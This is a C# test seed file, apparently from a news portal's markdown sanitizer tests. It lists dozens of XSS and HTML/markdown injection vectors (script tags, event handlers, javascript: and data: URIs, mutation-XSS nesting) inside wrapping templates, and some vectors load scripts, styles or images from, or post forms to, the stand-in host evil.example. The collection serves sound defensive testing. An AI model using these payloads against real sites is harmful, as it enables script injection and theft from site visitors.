namespace NewsPortal.Tests.Seeds.Markdown;

/// <summary>Ways to smuggle script, forms and foreign pictures into a page: vectors, and what they are wrapped in.</summary>
internal static class HostileMarkup
{
    private static readonly string[] Vectors =
    [
        "<script>alert(1)</script>", "<SCRIPT SRC=//evil.example/x.js></SCRIPT>", "<img src=x onerror=alert(1)>", "<img src=x.png onload='alert(1)'>",
        "<svg onload=alert(1)>", "<svg><script>alert(1)</script></svg>", "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>", "<math href='javascript:alert(1)'>x</math>",
        "<iframe src='javascript:alert(1)'></iframe>", "<iframe srcdoc='<script>alert(1)</script>'></iframe>", "<object data='javascript:alert(1)'></object>",
        "<embed src='javascript:alert(1)'>", "<base href='//evil.example/'>", "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
        "<link rel=stylesheet href=//evil.example/x.css>", "<style>*{background:url(//evil.example)}</style>", "<form action=//evil.example><input name=q></form>",
        "<button formaction='javascript:alert(1)'>x</button>", "<input onfocus=alert(1) autofocus>", "<select onchange=alert(1)><option>x</select>",
        "<textarea onfocus=alert(1)>x</textarea>", "<video src=x onerror=alert(1)></video>", "<audio><source onerror=alert(1)></audio>",
        "<details open ontoggle=alert(1)>x</details>", "<marquee onstart=alert(1)>x</marquee>", "<body onload=alert(1)>", "<a href='javascript:alert(1)'>x</a>",
        "<a href='JaVaScRiPt:alert(1)'>x</a>", "<a href='java\tscript:alert(1)'>x</a>", "<a href='&#106;avascript:alert(1)'>x</a>",
        "<a href=' javascript:alert(1)'>x</a>", "<a href='vbscript:x'>x</a>", "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
        "<a href='//evil.example'>x</a>", "<a href='/\\evil.example'>x</a>", "<a href=x style='position:fixed;inset:0'>x</a>", "<p name=body id=__proto__>x</p>",
        "<div style='background:url(https://evil.example/x)'>x</div>", "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
        "<template><script>alert(1)</script></template>", "<xmp><img src=x onerror=alert(1)></xmp>", "<title><img src=x onerror=alert(1)></title>",
        "<noembed><img src=x onerror=alert(1)></noembed>", "<plaintext><img src=x onerror=alert(1)>", "<!--><img src=x onerror=alert(1)>-->",
        "<![CDATA[<img src=x onerror=alert(1)>]]>", "<?x <img src=x onerror=alert(1)>?>", "<img src='https://evil.example/p.gif'>", "<img srcset='//evil.example/p.gif 1x'>",
        "<table background=//evil.example/x><tr><td background=//evil.example/y>x</table>", "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
        "[x](javascript:alert(1))", "[x](JAVASCRIPT:alert(1))", "[x](java&#x0A;script:alert(1))", "[x](javascript&colon;alert(1))", "[x](data:text/html;base64,PHNjcmlwdD4=)",
        "[x](vbscript:x)", "[x](//evil.example)", "<javascript:alert(1)>", "![x](javascript:alert(1))", "![x](https://evil.example/p.gif)", "![x](data:image/svg+xml,<svg onload=alert(1)>)",
        "![\" onerror=\"alert(1)](x.png)", "[x](x \"\\\" onclick=\\\"alert(1)\")", "[x]\n\n[x]: javascript:alert(1)", "# x {onclick=alert(1)}", "x{onclick=alert(1) .y #z style=a}",
        "```html onload=alert(1)\n<script>alert(1)</script>\n```", "`<script>alert(1)</script>`", "&lt;script&gt;alert(1)&lt;/script&gt;", "\\<script>alert(1)\\</script>",
        "\" onmouseover=\"alert(1)", "'><script>alert(1)</script>", "</p></div></main><script>alert(1)</script>", "</span><img src=x onerror=alert(1)>–",
        "Hanoi, May 1 (<script>alert(1)</script>)–x",
    ];

    private static readonly string[] Wrappings = ["{0}", "Words {0} words.", "> - {0}", "| a |\n|---|\n| {0} |", "<div>{0}", "# {0}\n\n*{0}*"];

    public static IEnumerable<string> All() => Vectors.SelectMany(vector => Wrappings.Select(wrapping => wrapping.Replace("{0}", vector, StringComparison.Ordinal)));

    public static IEnumerable<string> Bare() => Vectors;
}
